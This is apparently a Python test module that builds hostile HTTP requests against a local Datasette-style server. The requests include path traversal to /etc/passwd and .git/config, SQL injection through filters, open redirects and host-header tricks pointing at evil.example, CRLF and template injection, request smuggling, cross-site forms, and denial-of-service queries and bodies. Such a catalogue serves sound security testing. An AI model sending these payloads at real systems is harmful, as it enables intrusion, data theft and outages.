"""Hostile addresses and hostile HTTP: (kind, name) → the bytes of one connection."""

from __future__ import annotations

from urllib.parse import quote_plus, urlencode

from hostile_sql import SQL

TABLE = "/interloan/speakers"
FACETS = "&".join(["_facet=vintage", "_facet=measure", "_facet=place_id", "_facet=group_id"] * 2)
ENDLESS = quote_plus(
    "(with recursive n (i) as (select 1 union all select i + 1 from n) select max(i) from n) > 0"
)
PLAIN = "()*,'/|:=<>[]{}!$@;~"  # what needs no encoding in a query, so that more fits in


def get(address: str, *headers: str, host: str = "127.0.0.1") -> bytes:
    """Return a GET request of one connection."""
    lines = [f"GET {address} HTTP/1.1", f"Host: {host}", *headers, "Connection: close", "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape")


def post(address: str, body: bytes, *headers: str) -> bytes:
    """Return a POST request with a body."""
    lines = [f"POST {address} HTTP/1.1", "Host: 127.0.0.1", *headers, "Connection: close", "", ""]
    return "\r\n".join(lines).encode() + body


def own_sql(statement: str, ending: str = ".json") -> str:
    """Return the address that asks a statement."""
    return f"/interloan{ending}?sql={quote_plus(statement, safe=PLAIN)}"


LARGE_PAGE = own_sql(
    "with recursive n (i) as (select 1 union all select i + 1 from n limit 2000) select "
    + ",".join(["i"] * 400)
    + " from n",
    "",
)

ADDRESSES: dict[tuple[str, str], str] = {
    ("facets", "180 facets"): f"{TABLE}?" + "&".join(f"_facet=c{i}" for i in range(180)),
    ("facets", "180 real facets"): f"{TABLE}?" + "&".join(["_facet=group_id", "_facet=place_id"] * 90),
    ("facets", "eight facets of all values"): f"{TABLE}?{FACETS}&_facet_size=max",
    ("facets", "eight facets with an endless filter"): f"{TABLE}?{FACETS}&_where={ENDLESS}",
    ("facets", "facets of arrays and dates"): f"{TABLE}?" + "&".join(["_facet_array=note", "_facet_date=as_of"] * 4),
    ("facets", "facets with ninety parameters to carry"): f"{TABLE}?{FACETS}&_facet_size=max&" + "&".join(f"x{i}__not=1" for i in range(80)),
    ("facets", "a facet given as JSON"): f"{TABLE}?_facet=%7B%7D",
    ("facets", "a facet of what is not there"): f"{TABLE}.json?_facet=nowhere",
    ("filters", "an endless filter"): f"{TABLE}?_where={ENDLESS}",
    ("filters", "ninety endless filters"): f"{TABLE}.json?" + "&".join([f"_where={ENDLESS}"] * 55),
    ("filters", "a filter that closes its bracket"): f"{TABLE}.json?_where=1)+union+select+*+from+pragma_database_list--",
    ("filters", "ninety times contains"): f"{TABLE}?" + "&".join(["note__contains=a%25_%25b"] * 90),
    ("filters", "like with ninety wildcards"): f"{TABLE}?note__like=" + "%25_a" * 60,
    ("filters", "glob with a long set"): f"{TABLE}?note__glob=*[" + "b" * 150 + "]c",
    ("filters", "one of 2,000"): f"{TABLE}.json?id__in=" + ",".join("1" for _ in range(2000)),
    ("filters", "_in with broken JSON"): f"{TABLE}.json?id__in=[[[",
    ("filters", "_through with nested JSON"): f"{TABLE}.json?_through=" + "[" * 3000,
    ("filters", "_through with the wrong type"): f'{TABLE}.json?_through={{"table":1}}',
    ("filters", "a number beyond 64 bits"): f"{TABLE}.json?estimate__gt=" + "9" * 40,
    ("filters", "search with 3,000 quotes"): "/interloan/search_entries?_search=" + "%22" * 2500,
    ("filters", "raw search syntax"): "/interloan/search_entries?_searchmode=raw&_search=" + "(" * 900,
    ("filters", "sorted by what is not there"): f"{TABLE}?_sort=nowhere",
    ("filters", "sorted both ways"): f"{TABLE}?_sort=id&_sort_desc=id",
    ("filters", "a next page that is no number"): "/interloan/libraries_and_loans?_next=x",
    ("filters", "a next page far away"): "/interloan/libraries_and_loans?_next=" + "9" * 25,
    ("filters", "_col 900 times"): f"{TABLE}?" + "&".join(["_col=id"] * 900),
    ("filters", "a time limit that is no number"): f"{TABLE}?_timelimit=soon",
    ("filters", "a shape that is not there"): f"{TABLE}.json?_shape=x",
    ("filters", "_json of deep brackets"): own_sql("select replace(hex(zeroblob(40000)), '00', '[') as a") + "&_json=a",
    ("filters", "debugging switches"): f"{TABLE}.json?_trace=1&_context=1&_memory=1",
    ("filters", "a key of 2,000 letters"): f"{TABLE}/" + "a" * 2000,
    ("filters", "a key with too many parts"): f"{TABLE}/" + ",".join("1" * 900),
    ("filters", "a zero byte in a table's name"): "/interloan/~00",
    ("filters", "rows of SQLite's own table"): "/interloan/sqlite_master/1.json",
    ("pages", "_size=max as a page"): f"{TABLE}?_size=max",
    ("pages", "_size=max with labels"): f"{TABLE}?_size=max&_labels=on",
    ("pages", "a page of 800,000 cells"): LARGE_PAGE,
    ("pages", "a page of long addresses"): own_sql("with recursive n (i) as (select 1 union all select i + 1 from n limit 700) select 'http://' || hex(zeroblob(2000)) || i from n", ""),
    ("pages", "JSON of 800,000 cells"): LARGE_PAGE.replace("/interloan?", "/interloan.json?"),
    ("pages", "a whole table streamed as CSV"): f"{TABLE}.csv?_stream=1",
    ("pages", "own SQL of a million rows as CSV"): own_sql("with recursive n (i) as (select 1 union all select i + 1 from n limit 1000000) select i, i, i, i from n", ".csv"),
    ("pages", "the list of tables as JSON"): "/interloan.json",
    ("pages", "the list of tables as JSON, with a parameter"): "/interloan.json?_shape=objects",
    ("pages", "the list of all databases as JSON"): "/.json",
    ("pages", "the list of tables under another spelling"): "/~69nterloan.json",
    ("pages", "a large page under another spelling"): "/~69nterloan/~73peakers?_size=max",
    ("pages", "own SQL as an Atom or blob"): own_sql("select x'00' as b", ".blob"),
    ("address", "8,000 parameters"): f"{TABLE}?" + "&".join(["a=1"] * 8000),
    ("address", "5,000 different parameters"): f"{TABLE}?" + "&".join(f"p{i}=" for i in range(5000)),
    ("address", "blanks before a statement, 16 kB"): "/interloan?sql=" + "+" * 16_000 + "x",
    ("address", "comments before a statement, 16 kB"): "/interloan?sql=" + "--+%0a" * 2700 + "x",
    ("address", "comments before a statement, 7 kB"): "/interloan?sql=" + "/**/+" * 1400 + "x",
    ("address", "60 kB of path"): "/" + "a/" * 30_000,
    ("address", "percent signs"): "/interloan/" + "%25" * 2000,
    ("address", "broken percent signs"): "/interloan/%zz%?%zz=%",
    ("address", "broken UTF-8"): "/interloan/fees?name=%ff%fe%c3&%ed%a0%80=1",
    ("address", "raw bytes beyond ASCII"): "/interloan/fées",
    ("address", "a line break for a header"): "/interloan/%0d%0aset-cookie:%20a=b/",
    ("address", "a zero byte in a file's name"): "/static/%00",
    ("address", "a file's name too long"): "/static/" + "a" * 4000,
    ("redirects", "two slashes"): "//evil.example/",
    ("redirects", "a backslash"): "/\\evil.example/",
    ("redirects", "an encoded backslash"): "/%5cevil.example/",
    ("redirects", "a tab"): "/%09/evil.example/",
    ("redirects", "an encoded slash"): "/%2fevil.example/",
    ("redirects", "the memory database"): "/:memory:@evil.example/",
    ("redirects", "jsono"): "//evil.example/interloan/fees.jsono",
    ("files", "two dots"): "/static/../settings.json",
    ("files", "two encoded dots"): "/static/%2e%2e/settings.json",
    ("files", "two dots and an encoded slash"): "/static/..%2f..%2f..%2f..%2fetc/passwd",
    ("files", "an absolute path"): "/static//etc/passwd",
    ("files", "Datasette's own code"): "/-/static/../app.py",
    ("files", "a plugin's own code"): "/-/static-plugins/datasette_vega/../__init__.py",
    ("files", "settings and metadata"): "/settings.json",
    ("files", "version control"): "/.git/config",
    ("files", "a template by its name"): "/_codemirror",
    ("files", "a template above the pages"): "/../base",
    ("files", "an expression as a template"): "/%7B%7B7*7%7D%7D",
    ("consoles", "where the databases are"): "/-/databases.json",
    ("consoles", "threads"): "/-/threads.json",
    ("consoles", "actor"): "/-/actor.json",
    ("consoles", "permissions"): "/-/permissions",
    ("consoles", "allow-debug"): "/-/allow-debug?actor=%7B%7D&allow=%7B%7D",
    ("consoles", "messages"): "/-/messages",
    ("consoles", "auth-token"): "/-/auth-token?token=x",
    ("consoles", "logout"): "/-/logout",
    ("consoles", "patterns"): "/-/patterns",
    ("consoles", "the internal database"): "/_internal",
    ("consoles", "the internal database under another spelling"): "/~5Finternal",
    ("consoles", "SQLite's own table under another spelling"): "/interloan/sqlite~5Fmaster",
    ("consoles", "all plugins"): "/-/plugins.json?all=1",
    ("consoles", "settings"): "/-/settings.json",
}  # fmt: skip

HEADERS: dict[tuple[str, str], bytes] = {
    ("headers", "another host"): get("/interloan/speakers.json", host="evil.example/x?"),
    ("headers", "two hosts"): get("/", "Host: evil.example"),
    ("headers", "a host with a quote"): get("/interloan/speakers", host='a"><script>'),
    ("headers", "X-Forwarded-Host"): get("/interloan/speakers.json", "X-Forwarded-Host: evil.example"),
    ("headers", "X-Original-URL"): get("/", "X-Original-URL: /-/databases.json", "X-Rewrite-URL: /-/databases.json"),
    ("headers", "X-HTTP-Method-Override"): get("/-/messages", "X-HTTP-Method-Override: POST"),
    ("headers", "X-Forwarded-Prefix"): get("/interloan/speakers", "X-Forwarded-Prefix: //evil.example"),
    ("headers", "forged cookies"): get("/-/actor.json", "Cookie: ds_actor=e30.x; ds_messages=e30.x"),
    ("headers", "60 kB of cookies"): get("/", "Cookie: " + "a=b; " * 12_000),
    ("headers", "5,000 headers"): get("/", *(f"X-{i}: 1" for i in range(5000))),
    ("headers", "a folded header"): get("/", "X-A: 1\r\n folded"),
    ("headers", "a zero byte"): get("/", "X-A: a\x00b"),
    ("headers", "thousand ranges"): get("/interloan.db", "Range: bytes=" + ",".join(["0-0"] * 1000)),
    ("headers", "tags of 8 kB"): get("/", "If-None-Match: " + ",".join(['"x"'] * 2000)),
    ("headers", "a tag for everything"): get("/", "If-None-Match: *", "If-Modified-Since: never"),
    ("headers", "Expect"): get("/", "Expect: 100-continue"),
    ("headers", "a websocket"): get("/", "Upgrade: websocket", "Connection: Upgrade"),
    ("framing", "an absolute address"): get("http://evil.example//x/"),
    ("framing", "length and chunks"): post("/", b"0\r\n\r\nGET /-/databases.json HTTP/1.1\r\nHost: x\r\n\r\n", "Content-Length: 5", "Transfer-Encoding: chunked"),
    ("framing", "two lengths"): post("/", b"abcdef", "Content-Length: 0", "Content-Length: 6"),
    ("framing", "a negative length"): post("/", b"", "Content-Length: -1"),
    ("framing", "a chunk of 2^64"): post("/", b"FFFFFFFFFFFFFFFFF\r\n", "Transfer-Encoding: chunked"),
    ("framing", "a line feed alone"): b"GET / HTTP/1.1\nHost: x\nConnection: close\n\n",
    ("framing", "HTTP/0.9"): b"GET /\r\n\r\n",
    ("framing", "HTTP/2 without agreement"): b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ("framing", "TLS"): bytes.fromhex("16030100") + b"\xff" * 200,
    ("framing", "500 requests at once"): get("/-/versions.json").replace(b"close", b"keep-alive") * 499 + get("/"),
    ("framing", "a header that never ends"): b"GET / HTTP/1.1\r\nX: " + b"a" * 2_000_000,
    ("methods", "TRACE"): get("/").replace(b"GET", b"TRACE", 1),
    ("methods", "CONNECT"): get("evil.example:443").replace(b"GET", b"CONNECT", 1),
    ("methods", "OPTIONS *"): get("*").replace(b"GET", b"OPTIONS", 1),
    ("methods", "PURGE"): get(TABLE).replace(b"GET", b"PURGE", 1),
    ("methods", "DELETE of a row"): get(f"{TABLE}/1").replace(b"GET", b"DELETE", 1),
    ("methods", "a form from another site"): post("/-/messages", b"message=hi&message_type=INFO", "Origin: http://evil.example", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 28"),
    ("methods", "logout from another site"): post("/-/logout", b"", "Content-Length: 0"),
    ("methods", "a POST to a question"): post("/interloan/my_town", b"{}", "Content-Type: application/json", "Content-Length: 2"),
    ("methods", "a form of 40 MB"): post("/-/messages", b"a=" + b"x" * 40_000_000, "Content-Type: application/x-www-form-urlencoded", "Content-Length: 40000002"),
    ("methods", "a form of a million fields"): post("/-/messages", b"a=1&" * 1_000_000, "Content-Type: application/x-www-form-urlencoded", "Content-Length: 4000000"),
}  # fmt: skip


def requests() -> dict[tuple[str, str], bytes]:
    """Return all attacks that are one connection each."""
    asked = {key: get(own_sql(statement)) for key, statement in SQL.items()}
    asked |= {key: get(address) for key, address in ADDRESSES.items()}
    return asked | HEADERS


def carried(**values: str) -> str:
    """Return parameters as a query string."""
    return urlencode(values)
